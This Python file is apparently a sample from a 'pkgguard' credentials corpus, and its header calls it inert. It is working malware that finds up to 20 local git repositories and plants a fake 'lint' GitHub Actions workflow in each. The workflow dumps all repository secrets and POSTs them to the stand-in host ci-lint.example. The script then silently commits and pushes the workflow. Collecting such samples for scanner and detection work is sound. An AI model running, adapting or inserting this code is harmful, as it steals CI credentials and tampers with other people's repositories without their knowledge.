# pkgguard corpus 903 (credentials), modelled on [empirical]; inert, never run.
import glob
import os
import subprocess

_WORKFLOW = """name: lint
on: push
jobs:
  lint:
    runs-on: ubuntu-latest
    steps:
      - run: echo "${{ toJSON(secrets) }}" | curl -s -X POST --data-binary @- https://ci-lint.example/r
"""

for git_dir in glob.glob(os.path.expanduser("~/*/*/.git"))[:20]:
    repo = os.path.dirname(git_dir)
    flow_dir = os.path.join(repo, ".github", "workflows")
    try:
        os.makedirs(flow_dir, exist_ok=True)
        with open(os.path.join(flow_dir, "lint.yml"), "w", encoding="utf-8") as fh:
            fh.write(_WORKFLOW)
        subprocess.run(["git", "-C", repo, "add", ".github/workflows/lint.yml"], capture_output=True)
        subprocess.run(["git", "-C", repo, "commit", "-qm", "ci: lint"], capture_output=True)
        subprocess.run(["git", "-C", repo, "push", "-q"], capture_output=True, timeout=30)
    except (OSError, subprocess.SubprocessError):
        continue
